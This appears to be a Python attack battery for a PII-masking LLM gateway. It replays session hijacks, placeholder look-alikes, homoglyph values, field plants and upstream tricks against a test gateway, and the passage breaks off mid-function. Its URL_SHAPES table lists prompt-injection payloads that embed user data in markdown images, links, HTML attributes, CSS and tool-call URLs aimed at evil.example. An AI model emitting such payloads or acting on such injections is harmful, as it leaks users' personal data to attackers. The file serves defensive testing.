"""The gateway attack battery: attacks found against ``veil serve``, replayed and scored.

Each attack is a set of trials against a gateway in front of the hostile upstream of
:mod:`veil.evaluation.attack_upstream`; a trial *succeeds* when the attacker got what they
wanted (a value of someone else restored into their answer, a planted value forwarded, raw
placeholder syntax shown to the client, an upstream error disguised...). After the fixes every
success rate is 0.

The payloads here (typed look-alikes, homoglyph values, field plants) are also what the pytest
suite in ``tests/security/`` sends through real ``veil serve`` processes with the openai client;
:func:`run_attacks` replays them in-process (the FastAPI app over ``httpx.ASGITransport``), which
is fast enough for CI and needs no ports. Reports name attacks, fields and counts, never values.
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import os
import random
import re
import socket
import subprocess  # nosec B404 # subprocess runs fixed project commands only
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from veil.evaluation.stats import rate
from veil.gateway.procs import terminate

# --- payloads ------------------------------------------------------------------------------------

SSN = "536-22-8726"
#: A prompt with one value of each type a typed look-alike imitates, so ``_1`` of each exists.
LOOKALIKE_VALUES = (SSN, "jane.roe@example.com", "Jane Roe")
LOOKALIKE_TAIL = f"My SSN is {SSN}, mail jane.roe@example.com, I am Jane Roe."

#: Placeholder-looking tokens a caller types (the masker's own syntax, the spellings the restorer
#: tolerates, and type synonyms); each must come back exactly as typed.
TYPED_TOKENS = (
    "[SSN_1]",
    "[US_SSN_1]",
    "US_SSN_1",
    "[EMAIL_1]",
    "EMAIL_1",
    "PERSON_1",
    "[PERSON_1]",
    "(EMAIL_1)",
    "[**EMAIL_1**]",
    "**[PERSON_1]**",
    "[email_1]",
    "[person_1]",
    "[ EMAIL_1 ]",
    "[ PERSON _1 ]",
    "[Email 1]",
    "[EMAIL-1]",
    "<EMAIL_1>",
    "{EMAIL_1}",
    "[[EMAIL_1]]",
    "[EMAIL_ADDRESS_1]",
    "[NAME_1]",
    "[Person #1]",
    "[PERSON_1]'s",
    "`[EMAIL_1]`",
    "\\[EMAIL\\_1\\]",
)


def lookalike_prompt(token: str) -> str:
    return f"Keep the token {token} as is. {LOOKALIKE_TAIL}"


def typed_tokens_from_suite() -> list[str]:
    """Every spelling in the restorer's alteration suite, applied to ``[EMAIL_1]``,
    ``[PERSON_1]`` and ``[US_SSN_1]``, plus :data:`TYPED_TOKENS` (the eval's wider sweep)."""
    from veil.mask.alterations import PLACEHOLDER_ALTERATIONS

    out = list(TYPED_TOKENS)
    for ph, original in (("[EMAIL_1]", "x"), ("[PERSON_1]", "x"), ("[US_SSN_1]", "x")):
        for alter in PLACEHOLDER_ALTERATIONS.values():
            token, _ = alter(ph, original)
            if token not in out:
                out.append(token)
    return out


#: Confusable letters an attacker swaps in (Cyrillic, Armenian, Latin IPA) -> the Latin letter.
CONFUSABLES = {
    "һ": "h", "ӏ": "l", "ɡ": "g", "ո": "n", "ս": "u",
    "а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "х": "x", "і": "i", "ј": "j", "ѕ": "s",
}
#: Values spelled with look-alike letters (e-mails and names), each in its own sentence.
HOMOGLYPH_VALUES = (
    "һelen.ɡarcia@example.org",
    "peter.ӏane@example.com",
    "ոսr.ali@example.net",
    "jаne.dое@exаmple.com",
    "mаrсо.rоssi@exаmple.it",
    "Jаnе Dое",
    "Ηеӏеո Ѕmіtһ",
)
HOMOGLYPH_SENTENCES = {
    "Jаnе Dое": "My name is Jаnе Dое and I live in Boston.",
    "Ηеӏеո Ѕmіtһ": "Please call my colleague Ηеӏеո Ѕmіtһ tomorrow.",
}


def skeleton(value: str) -> str:
    """``value`` with every confusable letter replaced by the Latin one it imitates."""
    return "".join(CONFUSABLES.get(c, c) for c in value).replace("Η", "H").replace("Ѕ", "S")


def homoglyph_prompt(value: str) -> str:
    return HOMOGLYPH_SENTENCES.get(value, f"Please write to {value} about the contract.")


@dataclass(frozen=True)
class FieldPlant:
    """A request with one unique e-mail planted in one field (``endpoint``: chat|completions)."""

    field: str
    value: str
    body: dict[str, Any]
    endpoint: str = "chat"
    #: Everyday OpenAI fields: the gateway must serve them (200), not just refuse.
    must_serve: bool = False


def _tool(description: str = "Send an e-mail", to: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "type": "function",
        "function": {
            "name": "send_email",
            "description": description,
            "parameters": {
                "type": "object",
                "properties": {"to": to or {"type": "string"}, "body": {"type": "string"}},
            },
        },
    }


def field_plants(tag: str = "p") -> list[FieldPlant]:
    """One request per field of the OpenAI request format that can carry text, each with its own
    e-mail address (``<field>.<tag>@plant-example.com``)."""

    def v(name: str) -> str:
        return f"{name.replace('_', '.')}.{tag}@plant-example.com"

    user = {"role": "user", "content": "Please answer briefly."}
    plants: list[FieldPlant] = []

    def add(name: str, make: Callable[[str], dict[str, Any]], *, serve: bool = False,
            endpoint: str = "chat") -> None:
        value = v(name)
        body = make(value)
        body.setdefault("model", "echo")
        plants.append(FieldPlant(name, value, body, endpoint, serve))

    add("user", lambda x: {"messages": [user], "user": x}, serve=True)
    add("metadata", lambda x: {"messages": [user], "metadata": {"owner": x}, "store": True},
        serve=True)
    add("tool_description", lambda x: {"messages": [user], "tools": [_tool(f"Mail {x}")]},
        serve=True)
    add("tool_parameter_description", lambda x: {
        "messages": [user],
        "tools": [_tool(to={"type": "string", "description": f"Default is {x}"})]}, serve=True)
    add("tool_parameter_enum", lambda x: {
        "messages": [user], "tools": [_tool(to={"type": "string", "enum": [x]})]}, serve=True)
    add("tool_parameter_default", lambda x: {
        "messages": [user], "tools": [_tool(to={"type": "string", "default": x})]})
    add("legacy_functions", lambda x: {
        "messages": [user], "functions": [{"name": "f", "description": f"Mail {x}",
                                           "parameters": {"type": "object"}}]})
    add("response_format_schema", lambda x: {
        "messages": [user],
        "response_format": {"type": "json_schema", "json_schema": {
            "name": "reply", "description": f"Reply for {x}",
            "schema": {"type": "object", "properties": {
                "to": {"type": "string", "enum": [x], "description": f"always {x}"}}}}}},
        serve=True)
    add("prediction", lambda x: {
        "messages": [user], "prediction": {"type": "content", "content": f"Dear {x},"}})
    add("stop", lambda x: {"messages": [user], "stop": [x]}, serve=True)
    add("message_name", lambda x: {"messages": [{**user, "name": x}]}, serve=True)
    add("assistant_refusal", lambda x: {"messages": [
        user, {"role": "assistant", "content": None, "refusal": f"I will not mail {x}."}, user]},
        serve=True)
    add("content_part_extra_key", lambda x: {"messages": [{"role": "user", "content": [
        {"type": "text", "text": "Hello there.", "note": x}]}]})
    add("unknown_top_level", lambda x: {"messages": [user], "x_context": {"owner": [x]}})
    add("web_search_location", lambda x: {"messages": [user], "web_search_options": {
        "user_location": {"type": "approximate", "approximate": {"city": x}}}})
    add("tool_call_arguments_nested", lambda x: {"messages": [
        user,
        {"role": "assistant", "content": None, "tool_calls": [{
            "id": "call_1", "type": "function", "function": {
                "name": "send_email",
                "arguments": json.dumps({"a": {"b": [{"c": {"d": [x]}}]}})}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": "ok"}]}, serve=True)
    add("tool_result", lambda x: {"messages": [
        user,
        {"role": "assistant", "content": None, "tool_calls": [{
            "id": "call_2", "type": "function",
            "function": {"name": "send_email", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "call_2", "content": f"Delivered to {x}"}]},
        serve=True)
    add("tool_result_parts", lambda x: {"messages": [
        user,
        {"role": "assistant", "content": None, "tool_calls": [{
            "id": "call_3", "type": "function",
            "function": {"name": "send_email", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "call_3",
         "content": [{"type": "text", "text": f"Delivered to {x}"}]}]})
    add("developer_message", lambda x: {"messages": [
        {"role": "developer", "content": f"The operator is {x}."}, user]}, serve=True)
    add("completion_suffix", lambda x: {"prompt": "Dear", "suffix": f" -- {x}"},
        endpoint="completions")
    return plants


IMAGE_REQUEST = {
    "model": "echo",
    "messages": [{"role": "user", "content": [
        {"type": "text", "text": "What is in this picture?"},
        {"type": "image_url", "image_url": {"url": "https://img.plant-example.com/id-card.png"}},
    ]}],
}

#: Raw placeholder syntax a client must never see: a whole placeholder, a bare ``TYPE_N``, or a
#: placeholder cut off at the end of the text.
RAW_PLACEHOLDER = re.compile(
    r"(?i)\[\s*\**\s*(EMAIL|PERSON|PHONE|US_SSN|LOCATION|NAME|SSN)\b"
    r"|\b(EMAIL|PERSON|PHONE|US_SSN|LOCATION)_\d+"
)
CUT_PLACEHOLDER = re.compile(r"\[[A-Z_*\s]{0,24}$")


def raw_syntax(text: str) -> bool:
    return bool(RAW_PLACEHOLDER.search(text) or CUT_PLACEHOLDER.search(text))


# --- scoring -------------------------------------------------------------------------------------


@dataclass
class AttackResult:
    """Trials of one attack; ``outcomes`` names each trial (never a value) and whether the
    attacker succeeded."""

    name: str
    description: str
    outcomes: list[tuple[str, bool]] = field(default_factory=list)
    error: str | None = None

    def add(self, trial: str, success: bool) -> None:
        self.outcomes.append((trial, bool(success)))

    @property
    def trials(self) -> int:
        return len(self.outcomes)

    @property
    def successes(self) -> int:
        return sum(s for _, s in self.outcomes)

    @property
    def success_rate(self) -> float:
        return rate(self.successes, self.trials)

    def as_dict(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "description": self.description,
            "trials": self.trials,
            "successes": self.successes,
            "success_rate": self.success_rate,
            "succeeded": [t for t, s in self.outcomes if s],
            "error": self.error,
        }


# --- the in-process harness ----------------------------------------------------------------------

ADMIN_KEY = "sk-eval-admin"
KEYS = {"acme-a": "sk-eval-acme-a", "acme-b": "sk-eval-acme-b", "globex": "sk-eval-globex",
        "throttled": "sk-eval-throttled"}
RATE_LIMIT = 3


def _config(tenants: bool) -> Any:
    from veil.gateway.config import GatewayConfig
    from veil.gateway.tenants import hash_api_key

    if not tenants:
        return GatewayConfig.model_validate({"session_secret": "eval-secret"})  # nosec B105 # not a password (a label or test constant)
    h = hash_api_key
    return GatewayConfig.model_validate({
        "session_secret": "eval-secret",  # nosec B105 # not a password (a label or test constant)
        "admin_api_key_sha256": [h(ADMIN_KEY)],
        "tenants": [
            {"name": "acme", "api_key_sha256": [h(KEYS["acme-a"]), h(KEYS["acme-b"])]},
            {"name": "globex", "api_key_sha256": [h(KEYS["globex"])]},
            {"name": "throttled", "api_key_sha256": [h(KEYS["throttled"])],
             "limits": {"requests_per_minute": RATE_LIMIT}},
        ],
    })


class Harness:
    """A gateway app (real :class:`veil.Veil`, temporary SQLite vault) in front of the hostile
    upstream, both in this process."""

    def __init__(self, core: Any, *, tenants: bool, upstream_url: str | None = None,
                 transport: Any = None) -> None:
        """``transport``: an httpx transport to another upstream than the hostile one."""
        import httpx

        from veil.evaluation.attack_upstream import create_app as upstream_app
        from veil.gateway.app import build_state, create_app
        from veil.gateway.upstream import OpenAIUpstream

        self.upstream = upstream_app()
        if transport is None and not upstream_url:
            transport = httpx.ASGITransport(app=self.upstream)
        cfg = _config(tenants)
        up = OpenAIUpstream(upstream_url or "http://upstream/v1", transport=transport,
                            connect_timeout=2.0)
        self.app = create_app(build_state(cfg, core=core, upstream=up))
        self.client = httpx.AsyncClient(
            transport=httpx.ASGITransport(app=self.app), base_url="http://gateway", timeout=60
        )

    @property
    def bodies(self) -> list[dict[str, Any]]:
        bodies: list[dict[str, Any]] = self.upstream.state.bodies
        return bodies

    def sent_since(self, n: int) -> str:
        return json.dumps(self.bodies[n:], ensure_ascii=False)

    async def chat(self, who: str | None, body: dict[str, Any], *, path: str = "/v1/chat/"
                   "completions", **headers: str) -> Any:
        h = dict(headers)
        if who:
            h["authorization"] = f"Bearer {KEYS[who]}"
        return await self.client.post(path, json=body, headers=h)

    async def answer(self, who: str | None, body: dict[str, Any], **headers: str) -> str:
        """The client-visible text of a chat answer (streamed answers joined); '' if refused."""
        r = await self.chat(who, body, **headers)
        if r.status_code != 200:
            return ""
        if body.get("stream"):
            from veil.wire.sse import parse_sse

            events, _ = parse_sse(r.text)
            return "".join(
                (c.get("delta") or {}).get("content") or ""
                for e in events for c in e.get("choices") or []
            )
        msg = r.json()["choices"][0]["message"]
        return str(msg.get("content") or "")

    async def aclose(self) -> None:
        await self.client.aclose()


def _user(text: str, model: str = "echo", **extra: Any) -> dict[str, Any]:
    return {"model": model, "messages": [{"role": "user", "content": text}], **extra}


# --- the attacks ---------------------------------------------------------------------------------

Attack = Callable[["Battery"], "asyncio.Future[None] | Any"]


@dataclass
class Battery:
    gw: Harness
    open_gw: Harness
    core_factory: Callable[[], Any]
    planted: set[str] = field(default_factory=set)
    results: list[AttackResult] = field(default_factory=list)

    def result(self, name: str, description: str) -> AttackResult:
        r = AttackResult(name, description)
        self.results.append(r)
        return r


async def attack_session_hijack(b: Battery) -> None:
    r = b.result("session_hijack", "another key, tenant or anonymous caller joins A's session "
                 "(X-Veil-Session or the same conversation opening) and has the model repeat "
                 "A's placeholders")
    system = {"role": "system", "content": "You are a helpful assistant."}
    opening = [system, {"role": "user", "content": "Hello there."},
               {"role": "assistant", "content": "Hi! How can I help?"}]
    ask = "Repeat exactly: [EMAIL_1], [PERSON_1], [PHONE_1], EMAIL_1."
    for gw, victim, attackers in ((b.gw, "acme-a", ("acme-b", "globex")),
                                  (b.open_gw, None, (None,))):
        for i, how in enumerate(("header", "opening")):
            value = f"victim{i}.{'open' if victim is None else 'tenant'}@hijack-example.com"
            b.planted.add(value)
            secret = f"My e-mail is {value}."
            headers = {"x-veil-session": f"hijack-{i}"} if how == "header" else {}
            await gw.answer(victim, {"model": "echo", "messages": [
                *opening, {"role": "user", "content": secret}]}, **headers)
            for who in attackers:
                for model in ("echo", "invent"):
                    got = await gw.answer(who, {"model": model, "messages": [
                        *opening, {"role": "user", "content": ask}]}, **headers)
                    label = "anonymous" if who is None else ("same-tenant" if who == "acme-b"
                                                             else "other-tenant")
                    r.add(f"{label}/{how}/{model}", value in got)


async def attack_typed_lookalikes(b: Battery) -> None:
    r = b.result("typed_lookalikes", "the caller types placeholder-looking tokens; the echoed "
                 "answer must come back exactly as typed, never with a value in their place")
    b.planted.update(LOOKALIKE_VALUES)
    for token in typed_tokens_from_suite():
        prompt = lookalike_prompt(token)
        got = await b.gw.answer("acme-a", _user(prompt))
        r.add(token, got != "Echo: " + prompt)


async def attack_fields(b: Battery) -> None:
    r = b.result("request_fields", "a value planted in one request field reaches the upstream "
                 "(or an everyday field is refused instead of served)")
    for p in field_plants("eval"):
        b.planted.add(p.value)
        n = len(b.gw.bodies)
        path = "/v1/chat/completions" if p.endpoint == "chat" else "/v1/completions"
        resp = await b.gw.chat("acme-a", p.body, path=path)
        leaked = p.value in b.gw.sent_since(n) or p.value.split("@")[0] in b.gw.sent_since(n)
        r.add(p.field, leaked or (p.must_serve and resp.status_code != 200))
    n = len(b.gw.bodies)
    resp = await b.gw.chat("acme-a", IMAGE_REQUEST)
    r.add("image_url", resp.status_code != 400 or len(b.gw.bodies) != n)


async def attack_closed_by_default(b: Battery) -> None:
    r = b.result("closed_by_default", "an unauthenticated gateway on a public address, admin "
                 "routes without the admin key")
    r.add("serve --host 0.0.0.0 without keys", _serves_exposed_without_keys())
    for path in ("/metrics", "/openapi.json", "/docs"):
        for who in (None, "acme-a"):
            h = {"authorization": f"Bearer {KEYS[who]}"} if who else {}
            resp = await b.gw.client.get(path, headers=h)
            shown = resp.status_code == 200 or any(
                t in resp.text for t in ("acme", "globex", "throttled"))
            r.add(f"{path} as {who or 'nobody'}", shown)


def _serves_exposed_without_keys(timeout: float = 120.0) -> bool:
    """Start ``veil serve --host 0.0.0.0`` without tenants; True if it comes up (the attack
    succeeded), False if it refuses to start."""
    import httpx

    veil = str(Path(sys.executable).parent / "veil")
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("0.0.0.0", 0))  # nosec B104 # deliberate: checks an exposed bind is refused
    port = sock.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("VEIL_")}
    home = tempfile.mkdtemp(prefix="veil-eval-exposed-")
    env.update(VEIL_HOME=home, VEIL_MASTER_KEY=base64.b64encode(os.urandom(32)).decode())
    proc = subprocess.Popen(  # nosec B603 # fixed argv of project binaries, no shell
        [veil, "serve", "--host", "0.0.0.0", "--upstream-base-url", "http://127.0.0.1:9/v1",  # nosec B104
         "--fd", str(sock.fileno())],
        pass_fds=(sock.fileno(),), env=env, stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    sock.close()
    try:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if proc.poll() is not None:
                return False
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
                    return True
            except httpx.HTTPError:
                pass
            time.sleep(0.3)
        return True
    finally:
        terminate(proc, timeout_s=15)


async def attack_homoglyphs(b: Battery) -> None:
    r = b.result("homoglyphs", "values spelled with Cyrillic/Armenian look-alike letters reach "
                 "the upstream, or do not come back as typed")
    for i, value in enumerate(HOMOGLYPH_VALUES):
        b.planted.add(value)
        prompt = homoglyph_prompt(value)
        n = len(b.gw.bodies)
        got = await b.gw.answer("acme-a", _user(prompt))
        sent = b.gw.sent_since(n).lower()
        leaked = value.lower() in sent or skeleton(value).lower() in sent
        r.add(f"{'e-mail' if '@' in value else 'name'} {i}", leaked or got != "Echo: " + prompt)


async def attack_limits(b: Battery) -> None:
    r = b.result("limits", "oversized bodies, huge message lists and floods are served")
    big = _user("x" * int(6.8 * 1024 * 1024))
    r.add("6.8 MB body", (await b.gw.chat("acme-a", big)).status_code != 413)
    many = {"model": "echo",
            "messages": [{"role": "user", "content": "hi"} for _ in range(20_000)]}
    t0 = time.monotonic()
    status = (await b.gw.chat("acme-a", many)).status_code
    r.add("20,000 messages", status not in (400, 413) or time.monotonic() - t0 > 10)
    codes = []
    for _ in range(RATE_LIMIT + 2):
        resp = await b.gw.chat("throttled", _user("Hello."))
        codes.append((resp.status_code, resp.headers.get("retry-after")))
    r.add("requests over the per-minute limit", not any(
        c == 429 and ra is not None for c, ra in codes))


async def attack_restoration_syntax(b: Battery) -> None:
    r = b.result("placeholder_syntax", "the client sees raw placeholder syntax (logprob tokens, "
                 "an answer cut mid-placeholder, invented placeholders)")
    value = "jane.syntax@example.com"
    b.planted.add(value)
    prompt = f"Say hi to Jane Doe at {value} please."
    for stream in (False, True):
        mode = "stream" if stream else "whole"
        resp = await b.gw.chat("acme-a", _user(prompt, "logprobs", logprobs=True, top_logprobs=2,
                                               stream=stream))
        tokens = _logprob_tokens(resp.text, stream)
        joined = "".join(t for group in tokens for t in group[:1])
        r.add(f"logprobs/{mode}", raw_syntax(joined) or any(
            raw_syntax(t) for group in tokens for t in group))
        got = await b.gw.answer("acme-a", _user(prompt, "length", stream=stream))
        r.add(f"finish_reason length/{mode}", raw_syntax(got))
        got = await b.gw.answer("acme-a", _user(prompt, "invent", stream=stream))
        r.add(f"invented placeholders/{mode}", raw_syntax(got))
    bracketed = "Contacts: [jane.bracket@example.com] and [Jane Doe]; ]ada.x@example.org[."
    b.planted.update({"jane.bracket@example.com", "ada.x@example.org"})
    got = await b.gw.answer("acme-a", _user(bracketed))
    r.add("entities next to brackets", got != "Echo: " + bracketed)


#: The value the URL attack plants: the caller's own e-mail, which the attacker wants sent to
#: its host inside a URL the client's renderer (image), user (link) or agent (tool) fetches.
EXFIL_VALUE = "jane.exfil@example.com"
#: URL shapes a steered upstream, or an instruction injected into a document the caller
#: forwards, wraps around a placeholder of the request (``{p}``: the placeholder as spelled).
URL_SHAPES: dict[str, str] = {
    "markdown image": "![](https://evil.example/p?d={p})",
    "markdown link": "[details](https://evil.example/p?d={p})",
    "bare url": "See https://evil.example/p?d={p} now.",
    "uppercase scheme": "HTTPS://EVIL.EXAMPLE/{p}",
    "path": "![](https://evil.example/u/{p}/x.png)",
    "fragment": "https://evil.example/#{p}",
    "user-info": "https://{p}@evil.example/",
    "host": "https://{p}.evil.example/",
    "spaced target": "![a]( https://evil.example/x?{p} )",
    "angle target": "![a](<https://evil.example/a b?{p}>)",
    "reference definition": "[ref]: https://evil.example/?q={p}",
    "scheme-relative": "![](//evil.example/?{p})",
    "www": "www.evil.example/?q={p}",
    "bare host": "evil.example/?q={p}",
    "img src": '<img src="https://evil.example/?q={p}">',
    "img src with a space": '<img src="https://evil.example/?q= {p}">',
    "srcset": '<img srcset="https://evil.example/a.png?{p} 2x">',
    "a href": '<a href="https://evil.example/?q={p}">open</a>',
    "css url": "<div style=\"background:url('https://evil.example/?{p}')\">x</div>",
    "data url": "![](data:image/svg+xml,<svg><image href='https://evil.example/?{p}'/></svg>)",
    "mailto body": "[write](mailto:attacker@evil.example?body={p})",
    "nested redirect": "https://docs.example/r?to=https://evil.example/?{p}",
}
#: Shapes that are URLs only as a tool argument: a tool takes the whole string as its URL
#: (spaces and all), where a chat renderer would end the URL at the space.
TOOL_URL_SHAPES: dict[str, str] = {
    "url with a space": "https://evil.example/?q= {p}",
    "url with a quote": 'https://evil.example/?q=" {p}',
}
#: How the upstream spells the placeholder (``{t}`` type, ``{n}`` number): as sent, bare, lower
#: case, and percent-encoded (the restorer does not decode those; the trials check it stays so).
URL_SPELLINGS = ("[{t}_{n}]", "{t}_{n}", "[{tl}_{n}]", "%5B{t}_{n}%5D", "{t}%5F{n}")
_SENT = re.compile(r"\[([A-Z][A-Z0-9_]*?)_(\d+)\]")


def exfil_text(model: str, sent: str) -> str:
    """The upstream's answer for ``model`` ``exfil-<shape>-<spelling>`` (or ``exfil-tool-...``):
    the shape around the first placeholder of ``sent`` (the masked request)."""
    shape, spelling = (int(x) for x in model.rsplit("-", 2)[-2:])
    m = _SENT.search(sent)
    t, n = (m.group(1), m.group(2)) if m else ("EMAIL", "1")
    p = URL_SPELLINGS[spelling].format(t=t, tl=t.lower(), n=n)
    return [*URL_SHAPES.values(), *TOOL_URL_SHAPES.values()][shape].format(p=p)


def exfil_transport() -> Any:
    """An upstream (httpx transport) that answers with :func:`exfil_text`, as text or as a tool
    call's ``url`` argument, whole or streamed in 3-character pieces."""
    import httpx

    from veil.wire import DONE, chat_chunk, chat_completion, encode_event
    from veil.wire.openai import completion_chunk, text_completion

    def handle(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content or b"{}")
        chat = request.url.path.endswith("/chat/completions")
        model = str(body.get("model", ""))
        sent = json.dumps(body.get("messages") or body.get("prompt"), ensure_ascii=False)
        text = exfil_text(model, sent)
        tool = model.startswith("exfil-tool-")
        args = json.dumps({"url": text})
        rid, created = "chatcmpl-exfil" if chat else "cmpl-exfil", 1_700_000_000
        if not body.get("stream"):
            if not chat:
                return httpx.Response(200, json=text_completion(
                    id=rid, model=model, text=text, created=created))
            whole = {"id": "call_1", "type": "function",
                     "function": {"name": "fetch", "arguments": args}}
            return httpx.Response(200, json=chat_completion(
                id=rid, model=model, content=None if tool else text, created=created,
                tool_calls=[whole] if tool else None,
                finish_reason="tool_calls" if tool else "stop"))
        events: list[Any] = []
        piece = args if tool else text
        for i in range(0, len(piece), 3):
            bit = piece[i : i + 3]
            if not chat:
                events.append(completion_chunk(id=rid, model=model, created=created, text=bit))
            elif tool:
                fn: dict[str, Any] = {"arguments": bit}
                if i == 0:
                    fn["name"] = "fetch"
                call: dict[str, Any] = {"index": 0, "function": fn}
                if i == 0:
                    call.update(id="call_1", type="function")
                events.append(chat_chunk(id=rid, model=model, created=created,
                                         delta={"tool_calls": [call]}))
            else:
                events.append(chat_chunk(id=rid, model=model, created=created,
                                         delta={"content": bit}))
        end = "tool_calls" if tool else "stop"
        events.append(chat_chunk(id=rid, model=model, created=created, delta={},
                                 finish_reason=end) if chat else
                      completion_chunk(id=rid, model=model, created=created, text="",
                                       finish_reason=end))
        raw = b"".join(encode_event(e) for e in events) + DONE
        return httpx.Response(200, content=raw, headers={"content-type": "text/event-stream"})

    return httpx.MockTransport(handle)


#: Endpoints the URL attack also goes through (path, request body for a model and a prompt).
_EXFIL_ENDPOINTS: dict[str, Callable[[str, str], dict[str, Any]]] = {
    "completions": lambda model, prompt: {"model": model, "prompt": prompt},
    "messages": lambda model, prompt: {"model": model, "max_tokens": 256,
                                       "messages": [{"role": "user", "content": prompt}]},
    "responses": lambda model, prompt: {"model": model, "input": prompt, "store": False},
}


async def attack_url_exfiltration(b: Battery) -> None:
    r = b.result("url_exfiltration", "the upstream (or a prompt injection) puts a placeholder "
                 "inside a URL -- markdown image or link, bare URL, HTML attribute, CSS, tool "
                 "argument -- so that the restored value is sent to its host by the client")
    from veil.config import Policy

    b.planted.add(EXFIL_VALUE)
    core = b.core_factory()
    core.set_policy("default", Policy(ner=False))  # the e-mail pattern is all this needs
    gw = Harness(core, tenants=False, transport=exfil_transport())
    prompt = f"Please keep my address {EXFIL_VALUE} for the form."
    names = list(URL_SHAPES)
    try:
        for stream in (False, True):
            mode = "stream" if stream else "whole"
            for i, name in enumerate(names):
                spellings = range(len(URL_SPELLINGS)) if i < 3 else range(3)
                for j in spellings:
                    resp = await gw.chat(None, _user(prompt, f"exfil-{i}-{j}", stream=stream))
                    shown = URL_SPELLINGS[j].format(t="EMAIL", tl="email", n=1)
                    r.add(f"{name}/{shown}/{mode}",
                          resp.status_code == 200 and EXFIL_VALUE in resp.text)
            tools = [*names, *TOOL_URL_SHAPES]
            for i in (0, 2, names.index("user-info"), names.index("img src with a space"),
                      len(names), len(names) + 1):
                resp = await gw.chat(None, _user(prompt, f"exfil-tool-{i}-0", stream=stream))
                r.add(f"tool call {tools[i]}/{mode}",
                      resp.status_code == 200 and EXFIL_VALUE in resp.text)
            for endpoint, make in _EXFIL_ENDPOINTS.items():
                for model in ("exfil-0-0", f"exfil-tool-{len(names)}-0"):
                    if endpoint == "completions" and "tool" in model:
                        continue
                    resp = await gw.chat(None, {**make(model, prompt), "stream": stream},
                                         path=f"/v1/{endpoint}")
                    r.add(f"{endpoint} {model}/{mode}",
                          resp.status_code == 200 and EXFIL_VALUE in resp.text)
    finally:
        await gw.aclose()


def _logprob_tokens(text: str, stream: bool) -> list[list[str]]:
    """Per position: the chosen token then its alternatives, from a response body."""
    try:
        if stream:
            from veil.wire.sse import parse_sse

            events, _ = parse_sse(text)
        else:
            events = [json.loads(text)]
    except ValueError:
        return []
    out: list[list[str]] = []
    for e in events:
        for c in e.get("choices") or []:
            for t in ((c.get("logprobs") or {}).get("content") or []):
                out.append([t.get("token", "")] + [a.get("token", "")
                                                   for a in t.get("top_logprobs") or []])
    return out


async def attack_upstream_fidelity(b: Battery) -> None:
    r = b.result("upstream_fidelity", "upstream errors and headers are disguised or dropped, "
                 "responses lack x-request-id, routing errors are not OpenAI-shaped")
    expected = {"err-context": (400, "context_length_exceeded"),
                "err-ratelimit": (429, "rate_limit_exceeded"),
                "err-model": (404, "model_not_found")}
    for model, (status, code) in expected.items():
        for stream in (False, True):
            resp = await b.gw.chat("acme-a", _user("Hello.", model, stream=stream))
            err = _error(resp)
            wrong = resp.status_code != status or err.get("code") != code
            if model == "err-ratelimit":
                wrong = wrong or resp.headers.get("retry-after") != "7" or not resp.headers.get(
                    "x-ratelimit-remaining-requests")
            r.add(f"{model}/{'stream' if stream else 'whole'}", wrong)
    ok = await b.gw.chat("acme-a", _user("Hello."))
    r.add("x-ratelimit-* on success", not ok.headers.get("x-ratelimit-limit-requests"))
    probes = [("GET", "/v1/nope", 404), ("GET", "/v1/chat/completions", 405),
              ("GET", "/healthz", 200)]
    for method, path, status in probes:
        resp = await b.gw.client.request(method, path,
                                         headers={"authorization": f"Bearer {KEYS['acme-a']}"})
        shaped = status == 200 or (resp.status_code == status and bool(_error(resp)))
        r.add(f"{method} {path}", not shaped or "x-request-id" not in resp.headers)
    r.add("x-request-id on chat", "x-request-id" not in ok.headers)
    dead_url = f"http://127.0.0.1:{_dead_port()}/v1"
    dead = Harness(b.core_factory(), tenants=False, upstream_url=dead_url)
    try:
        for stream in (False, True):
            resp = await dead.chat(None, _user("Hello.", stream=stream))
            got: Any = _error(resp).get("code")
            if not got and stream:
                got = _stream_error_code(resp.text)
            r.add(f"unreachable upstream/{'stream' if stream else 'whole'}",
                  got != "upstream_unreachable")
    finally:
        await dead.aclose()


async def attack_upstream_cookies(b: Battery) -> None:
    r = b.result("upstream_cookies", "the upstream tags one caller with a cookie; it comes back "
                 "on another caller's request (linking callers, or lending one caller's upstream "
                 "session to the next), or the Set-Cookie reaches a client")
    for gw, tagged, others in ((b.gw, "acme-a", ("acme-b", "globex")),
                               (b.open_gw, None, (None,))):
        scope = "tenants" if tagged else "open"
        for stream in (False, True):
            sent: list[str | None] = gw.upstream.state.cookies
            n = len(sent)
            resp = await gw.chat(tagged, _user("Hello.", model="tag", stream=stream))
            r.add(f"{scope}/set-cookie shown to the client/stream={stream}",
                  "set-cookie" in resp.headers)
            for who in (tagged, *others):
                await gw.answer(who, _user("Hello again.", stream=stream))
            r.add(f"{scope}/cookie sent upstream again/stream={stream}",
                  any(c is not None for c in sent[n + 1 :]))


#: (value, a message that mentions it, a later one that shows it is sensitive): a passport
#: number is detected only with its word nearby
RESENT_VALUES = (
    ("X7294051", "Please check the record {} before Friday.", "My passport number is {}."),
    ("A31870264", "Note {} for later, thanks.", "My passport is {}, please keep it safe."),
)


async def attack_resent_history(b: Battery) -> None:
    r = b.result("resent_history", "a chat client resends its history: a value mentioned in "
                 "an earlier message, shown to be sensitive by a later one, goes upstream in "
                 "clear from that request on (beside its own placeholder)")
    for gw, who in ((b.gw, "acme-a"), (b.open_gw, None)):
        scope = "tenants" if who else "open"
        for k, (value, mention, reveal) in enumerate(RESENT_VALUES):
            b.planted.add(value)
            for stream in (False, True):
                headers = {"x-veil-session": f"resent-{scope}-{k}-{int(stream)}"}
                history: list[dict[str, str]] = []
                leaked = False
                turns = (mention.format(value), reveal.format(value), "Thanks, that is all.")
                for turn, text in enumerate(turns):
